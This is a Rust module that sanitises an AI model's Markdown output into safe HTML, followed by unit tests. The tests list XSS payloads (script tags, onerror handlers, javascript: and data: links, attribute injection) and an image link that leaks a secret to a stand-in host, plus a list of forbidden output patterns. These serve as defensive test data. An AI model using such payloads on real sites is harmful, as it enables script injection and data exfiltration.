//! A model's words as HTML that is safe to show. Models write Markdown; what it says is not trusted (H1).
//!
//! HTML in it is shown as text. Images are not loaded: their address could carry the conversation away. Links open
//! elsewhere, name their host, and never lead to this deployment's own origins: a link that starts a consent comes
//! from the server's consent card alone.

use std::borrow::Cow;

use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};
use url::{Origin, Url};

/// Renders `markdown`. Links to `own` origins are shown as text.
pub(crate) fn render(markdown: &str, own: &[Origin]) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut ends: Vec<CowStr<'_>> = Vec::new();
    let events = Parser::new_ext(markdown, options).flat_map(|event| match event {
        Event::Html(text) | Event::InlineHtml(text) => vec![Event::Text(text)],
        // Models mean the ends of their lines.
        Event::SoftBreak => vec![Event::HardBreak],
        Event::Start(Tag::HtmlBlock) => vec![Event::Start(Tag::Paragraph)],
        Event::End(TagEnd::HtmlBlock) => vec![Event::End(TagEnd::Paragraph)],
        Event::Start(Tag::Link { dest_url, .. }) => link(&dest_url, "", own, &mut ends),
        Event::Start(Tag::Image { dest_url, .. }) => link(&dest_url, "Image: ", own, &mut ends),
        Event::End(TagEnd::Link | TagEnd::Image) => vec![Event::InlineHtml(ends.pop().unwrap_or("".into()))],
        Event::Start(Tag::Heading { level, .. }) => vec![Event::Start(Tag::Heading {
            level: below_the_page(level),
            id: None,
            classes: Vec::new(),
            attrs: Vec::new(),
        })],
        Event::End(TagEnd::Heading(level)) => vec![Event::End(TagEnd::Heading(below_the_page(level)))],
        other => vec![other],
    });
    let mut rendered = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut rendered, events);
    rendered
}

/// The page has the first two levels.
fn below_the_page(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

/// How a link begins; how it ends goes onto `ends`.
fn link<'a>(
    destination: &str,
    what: &'static str,
    own: &[Origin],
    ends: &mut Vec<CowStr<'a>>,
) -> Vec<Event<'a>> {
    let target = Url::parse(destination).ok().filter(|url| {
        matches!(url.scheme(), "http" | "https") && url.username().is_empty() && !own.contains(&url.origin())
    });
    let Some(target) = target else {
        ends.push(format!(" ({})", escaped(destination)).into());
        return vec![Event::Text(what.into())];
    };
    let host = target.host_str().unwrap_or_default();
    ends.push(format!("</a> <span class=\"host\">({})</span>", escaped(host)).into());
    let mut start = String::from("<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=\"");
    // Writing to a String does not fail.
    let _ = escape_href(&mut start, target.as_str());
    start.push_str("\">");
    vec![Event::InlineHtml(start.into()), Event::Text(what.into())]
}

fn escaped(text: &str) -> Cow<'_, str> {
    let mut escaped = String::with_capacity(text.len());
    let _ = escape_html(&mut escaped, text);
    escaped.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rendered(markdown: &str) -> String {
        let own = [Url::parse("https://account.example").expect("a URL").origin()];
        render(markdown, &own)
    }

    #[test]
    fn markdown_becomes_markup() {
        assert_eq!(
            rendered("# Title\n\n* **a**\n* `b`"),
            "<h3>Title</h3>\n<ul>\n<li><strong>a</strong></li>\n<li><code>b</code></li>\n</ul>\n"
        );
        assert_eq!(rendered("a\nb"), "<p>a<br />\nb</p>\n");
        assert!(rendered("|a|\n|-|\n|b|").contains("<td>b</td>"));
        assert!(rendered("```rust\nfn a() {}\n```").contains("<pre><code class=\"language-rust\">"));
    }

    #[test]
    fn h01_nothing_a_model_writes_becomes_markup_of_its_own() {
        for markdown in [
            "<script>alert(1)</script>",
            "a <img src=x onerror=alert(1)> b",
            "<div>\n<iframe src=//evil.example></iframe>\n</div>",
            "[a](javascript:alert(1))",
            "[a](data:text/html,<script>alert(1)</script>)",
            "<javascript:alert(1)>",
            "![a](https://evil.example/?q=secret)",
            "[a](https://account.example/identities/oauth2/authorize?request_uri=x)",
            "[a](<https://evil.example/\" onclick=\"alert(1)>)",
            "[a](/logout)",
            "[a](//account.example/)",
            "# a {onclick=alert(1)}",
            "```\" onclick=\"alert(1)\nx\n```",
        ] {
            let html = rendered(markdown);
            let lower = html.to_lowercase();
            for forbidden in [
                "<script",
                "<img",
                "<iframe",
                "<div",
                " onclick=\"",
                " onerror=\"",
                "href=\"javascript",
                "href=\"data",
                "href=\"/",
                "href=\"https://account.example",
            ] {
                assert!(!lower.contains(forbidden), "{markdown}: {html}");
            }
        }
    }

    #[test]
    fn a_link_leads_elsewhere_and_says_where() {
        assert_eq!(
            rendered("[here](https://docs.example/a?b=1&c)"),
            "<p><a target=\"_blank\" rel=\"noopener noreferrer nofollow\" \
             href=\"https://docs.example/a?b=1&amp;c\">here</a> <span class=\"host\">(docs.example)</span></p>\n"
        );
        assert!(rendered("![plan](https://docs.example/p.png)").contains(">Image: plan</a>"));
    }
}
